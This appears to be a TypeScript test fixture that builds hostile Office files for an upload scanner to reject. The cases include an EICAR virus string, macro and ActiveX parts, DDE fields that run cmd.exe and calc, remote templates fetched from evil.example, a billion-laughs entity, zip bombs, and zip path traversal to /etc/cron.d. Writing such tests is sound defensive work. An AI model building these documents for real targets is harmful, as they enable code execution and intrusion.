import { EICAR } from '../../support/clamd.js';
import type { Hostile } from './hostile-files.js';
import { excel, excelParts, external, ole, word, wordParts } from './office-file.js';
import { zipOf, type ZipEntry } from './zip-file.js';

const MEGABYTE = 1024 * 1024;
const MACROS = /macros/;
const MORE = /unpacks to far more/;
const ELSEWHERE = /lead elsewhere/;

/** Documents of Office that hold programs, fetch something, or are no documents but bombs. */
export function hostileOffice(): readonly Hostile[] {
  const zeros = Buffer.alloc(39 * MEGABYTE);
  const bomb = zipOf(wordParts({ more: [{ name: 'word/media/zeros.bin', content: zeros }] }));
  const many = Array.from({ length: 2_500 }, (_, n) => ({ name: `word/media/${n}.xml`, content: '<a/>' }));
  const docx = (what: string, bytes: Buffer, says: RegExp, name = 'offer.docx'): Hostile => ({
    what,
    name,
    bytes,
    says,
  });
  const withPart = (what: string, part: ZipEntry, says: RegExp): Hostile => docx(what, word({ more: [part] }), says);
  const field = (words: string): string => `<w:p><w:r><w:instrText>${words}</w:instrText></w:r></w:p>`;
  return [
    docx(
      'a document with a virus',
      zipOf([...wordParts(), { name: 'word/media/a.txt', content: EICAR, isStored: true }]),
      /virus was found/,
    ),
    docx(
      'a macro document',
      word({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
      MACROS,
      'offer.docm',
    ),
    docx(
      'a macro document named .docx',
      word({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
      MACROS,
    ),
    withPart('a document with macros', { name: 'word/vbaProject.bin', content: ole('VBA') }, MACROS),
    {
      what: 'a workbook with macros',
      name: 'pay.xlsm',
      bytes: excel({ mainType: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml' }),
      says: MACROS,
    },
    {
      what: 'a workbook with macros of 1992',
      name: 'pay.xlsx',
      bytes: zipOf(excelParts({ more: [{ name: 'xl/macrosheets/sheet1.xml', content: '<a/>' }] })),
      says: MACROS,
    },
    {
      what: 'a workbook that starts a program',
      name: 'pay.xlsx',
      bytes: excel({
        more: [
          {
            name: 'xl/externalLinks/externalLink1.xml',
            content: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
          },
        ],
      }),
      says: /starts or fetches/,
    },
    {
      what: 'a workbook that fetches another',
      name: 'pay.xlsx',
      bytes: excel({ relations: external('externalLinkPath', '\\\\evil.example\\a.xlsx') }),
      says: /fetches parts/,
    },
    docx('an older document with macros', ole('Root Entry', 'Macros', '_VBA_PROJECT'), /older Office/, 'offer.doc'),
    docx('an older document named .docx', ole('Root Entry', 'Macros', '_VBA_PROJECT'), /older Office/),
    docx('a document with a password', ole('Root Entry', 'EncryptedPackage', 'EncryptionInfo'), /older Office/),
    docx(
      'a document with a password on a part',
      zipOf(wordParts().map((part) => ({ ...part, isEncrypted: true }))),
      /password|damaged/,
    ),
    withPart('a document with ActiveX', { name: 'word/activeX/activeX1.xml', content: '<a/>' }, MACROS),
    withPart(
      'a document with a program inside',
      { name: 'word/embeddings/oleObject1.bin', content: 'MZ' },
      /another file inside/,
    ),
    withPart(
      'a program under the name of a picture',
      { name: 'word/media/image1.png', content: 'MZ\x90\0' },
      /another file inside/,
    ),
    withPart(
      'a ZIP within the document',
      { name: 'word/media/image1.png', content: bomb, isStored: true },
      /another file inside/,
    ),
    withPart(
      'a web page within the document',
      { name: 'word/afchunk.html', content: '<script>1</script>' },
      /another file inside/,
    ),
    docx(
      'a document with a template elsewhere',
      word({ relations: external('attachedTemplate', 'http://evil.example/a.dotm') }),
      /fetches parts/,
    ),
    docx(
      'a document with a field that starts a program',
      word({ body: field('DDEAUTO c:\\\\windows\\\\cmd.exe') }),
      /starts or fetches/,
    ),
    docx('the same, cut into runs', word({ body: `${field('DDE')}${field('AUTO cmd')}` }), /starts or fetches/),
    withPart(
      'a billion laughs',
      { name: 'word/footer1.xml', content: '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]><a>&c;</a>' },
      /starts or fetches/,
    ),
    withPart(
      'the same in UTF-16',
      {
        name: 'word/footer1.xml',
        content: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<!DOCTYPE a>', 'utf16le')]),
      },
      /starts or fetches/,
    ),
    docx('a document that unpacks to a thousand times its size', bomb, MORE),
    docx(
      'a document whose directory claims a gigabyte',
      zipOf(wordParts({ more: [{ name: 'word/a.xml', content: 'a', claims: 1024 * MEGABYTE }] })),
      MORE,
    ),
    docx(
      'a document whose directory claims little',
      zipOf(wordParts({ more: [{ name: 'word/a.xml', content: zeros, claims: 1_000 }] })),
      MORE,
    ),
    docx(
      'a document of three large parts',
      zipOf(
        wordParts({
          more: [1, 2, 3].map((n) => ({
            name: `word/media/${n}.bin`,
            content: Buffer.alloc(39 * MEGABYTE, n),
            claims: 900_000,
          })),
        }),
      ),
      MORE,
    ),
    docx('a document of 2,500 parts', zipOf(wordParts({ more: many })), MORE),
    docx(
      'a document whose parts lie over each other',
      zipOf([...wordParts(), { name: 'word/b.xml', content: '<a/>', at: 2 }]),
      /not put together/,
    ),
    docx(
      'a document whose parts have two names',
      zipOf([...wordParts(), { name: 'word/b.xml', localName: 'word/c.xml', content: '<a/>' }]),
      /not put together/,
    ),
    docx(
      'a document with a part twice',
      zipOf([...wordParts(), { name: 'word/document.xml', content: '<b/>' }]),
      ELSEWHERE,
    ),
    docx(
      'a document with parts that lead elsewhere',
      zipOf([...wordParts(), { name: '../../../etc/cron.d/evil', content: 'x' }]),
      ELSEWHERE,
    ),
    docx('the same for Windows', zipOf([...wordParts(), { name: '..\\..\\evil.xml', content: '<a/>' }]), ELSEWHERE),
    docx('a document with a wrong checksum', zipOf(wordParts().map((part) => ({ ...part, crc: 1 }))), /damaged/),
    docx('a document that is cut off', word().subarray(0, -40), /before or behind|damaged/),
    docx('a picture before a document', zipOf(wordParts(), { before: Buffer.from('GIF89a/*') }), /GIF|must be/),
    docx(
      'a web page in the comment of a document',
      zipOf(wordParts(), { comment: '<script>1</script>' }),
      /before or behind/,
    ),
  ];
}
